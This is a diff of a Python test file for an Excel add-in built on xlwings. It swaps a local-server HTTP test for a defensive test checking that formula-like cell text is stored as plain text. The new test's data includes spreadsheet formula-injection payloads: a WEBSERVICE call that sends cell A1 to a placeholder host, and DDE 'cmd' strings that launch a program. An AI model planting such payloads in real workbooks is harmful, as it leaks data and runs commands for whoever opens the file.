@@ -1,16 +1,8 @@
-"""The Excel add-in through xlwings' real remote engine: ribbon scripts on the example workbooks,
-worksheet functions, and xlwings Server as a process on 127.0.0.1."""
+"""The Excel add-in through xlwings' real remote engine: ribbon scripts on the example workbooks and
+worksheet functions (xlwings Server as a process: test_server.py)."""
 
 import asyncio
-import json
 import math
-import os
-import socket
-import subprocess
-import sys
-import time
-import urllib.request
-from xml.etree.ElementTree import fromstring
 
 import openpyxl
 import pytest
@@ -18,6 +10,7 @@ import xlwings as xw
 from xlwings.server import custom_functions_call, custom_scripts_call
 
 from ikuxl.aksi import recalc, rencana
+from ikuxl.plan import Rumusan
 from ikuxl.workbook.baca import baca_dokumen
 from ikuxl.excel import fungsi, skrip
 
@@ -132,57 +125,38 @@ def test_nilai_rumus_dan_angka():
     assert angka[3][0].startswith('bukan angka: "1.500" ambigu')
 
 
-def _port_bebas() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
+# Texts staff may type that Excel's formula setter would otherwise take for a formula, a date or a boolean
+MIRIP_RUMUS = {"G5": '+WEBSERVICE("http://x.example/?"&A1)', "H5": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "G6": "-2+3+cmd|' /C calc'!A0", "G7": " =1+1", "H6": '\t=HYPERLINK("http://x.example")',
+               "C5": "1/2", "D5": "TRUE", "H7": "'kutip"}
 
 
-@pytest.fixture
-def server():
-    port = _port_bebas()
-    env = {k: v for k, v in os.environ.items() if not k.startswith("XLWINGS_")}
-    proses = subprocess.Popen([sys.executable, "-m", "ikuxl", "serve", "--port", str(port)], env=env,
-                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
-    alamat = f"http://127.0.0.1:{port}"
-    for _ in range(120):
-        try:
-            urllib.request.urlopen(alamat + "/manifest", timeout=1)
-            break
-        except OSError:
-            if proses.poll() is not None:
-                pytest.fail(proses.stdout.read().decode())
-            time.sleep(0.25)
-    yield alamat
-    proses.terminate()
-    proses.wait(timeout=20)
-
-
-def _kirim(alamat: str, jalur: str, data: dict) -> dict:
-    permintaan = urllib.request.Request(alamat + jalur, data=json.dumps(data).encode(), headers={"Content-Type": "application/json"})
-    with urllib.request.urlopen(permintaan, timeout=60) as r:
-        return json.loads(r.read())
-
-
-def test_server_manifest_fungsi_dan_skrip_lewat_http(server):
-    manifest = urllib.request.urlopen(server + "/manifest").read().decode()
-    akar = fromstring(manifest)
-    ns = {"o": "http://schemas.microsoft.com/office/taskpaneappversionoverrides",
-          "bt": "http://schemas.microsoft.com/office/officeappbasictypes/1.0"}
-    tombol = akar.findall(".//o:CustomTab/o:Group/o:Control", ns)
-    assert [t.find("o:Action/o:FunctionName", ns).text for t in tombol] == ["iku-validasi", "iku-hitung", "iku-ringkasan"]
-    teks = {s.get("id"): s.get("DefaultValue") for s in akar.iter("{%s}String" % ns["bt"])}
-    assert teks["Iku.Namespace"] == "IKU" and teks["Iku.Tab.Label"] == "IKU"
-    assert [teks[f"Iku.{t}.Label"] for t in ("Validasi", "Hitung", "Ringkasan")] == ["Validasi", "Hitung Capaian", "Perbarui Ringkasan"]
-    assert akar.find("{http://schemas.microsoft.com/office/appforoffice/1.1}Id").text == "39f658d7-f006-401f-9e10-823db2319f44"
-    ribbon = urllib.request.urlopen(server + "/static/js/ribbon.js").read().decode()
-    assert all(f'"{f}"' in ribbon for f in ("iku-validasi", "iku-hitung", "iku-ringkasan"))
-
-    meta = json.loads(urllib.request.urlopen(server + "/xlwings/custom-functions-meta").read())
-    assert {f["name"] for f in meta["functions"]} == {"ANGKA", "CAPAIAN", "KATEGORI", "NILAI"}
-    hasil = _kirim(server, "/xlwings/custom-functions-call", {
-        "func_name": "CAPAIAN", "args": [[[7]], [[6.5]], [["negatif"]], [[None]]], "client": "Office.js",
-        "version": xw.__version__, "runtime": "1.4", "caller_address": "Realisasi!Z1", "culture_info_name": "id-ID"})
-    assert hasil["result"][0][0] == pytest.approx(107.142857142857)
-    aksi = _kirim(server, "/xlwings/custom-scripts-call/hitung_capaian", muatan(WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx"))
-    assert any(a["func"] == "alert" and "5 indikator dihitung" in a["args"][0] for a in aksi["actions"])
+def test_teks_mirip_rumus_tetap_teks(tmp_path):
+    """Every text goes to the live book as text (the apostrophe), whatever it starts with; a negative number
+    stays a number and ikuxl's own formulas stay formulas."""
+    path = tmp_path / "a.xlsx"
+    path.write_bytes((WORKBOOKS / "iku-tanjabbar-2022-contoh-realisasi.xlsx").read_bytes())
+    wb = openpyxl.load_workbook(path)
+    for sel, teks in MIRIP_RUMUS.items():
+        wb["IKU"][sel].value, wb["IKU"][sel].data_type = teks, "s"
+    wb["Realisasi"]["G6"] = -5
+    wb.save(path)
+    plan = rencana(baca_dokumen(path))[0]
+    rumus = {"=" + s.nilai.excel for lp in plan.lembar for s in lp.sel.values() if isinstance(s.nilai, Rumusan)}
+    excel = Excel(path)
+    for nama in ("validasi", "hitung_capaian", "perbarui_ringkasan"):
+        aksi = jalankan(path, nama)
+        ditulis = [v for a in aksi if a["func"] in ("setFormula", "setValues") for b in a["values"] for v in b]
+        assert [v for v in ditulis if isinstance(v, str) and v and not v.startswith("'") and v not in rumus] == []
+        assert any(v in rumus for v in ditulis) or nama == "validasi"
+        excel.terapkan(aksi)
+    teks = {}
+    for lp in plan.lembar:
+        if lp.nama in MILIK:
+            for (r, c), s in lp.sel.items():
+                if isinstance(s.nilai, str):
+                    sel = excel.wb[lp.nama].cell(r, c)
+                    teks[s.nilai] = (sel.value, sel.data_type)
+    assert {t: v for t, v in teks.items() if v != (t, "s")} == {}
+    assert {t.strip() for t in MIRIP_RUMUS.values()} <= teks.keys()  # leading blanks are trimmed on reading
+    assert excel.wb["Realisasi"]["G6"].value == -5
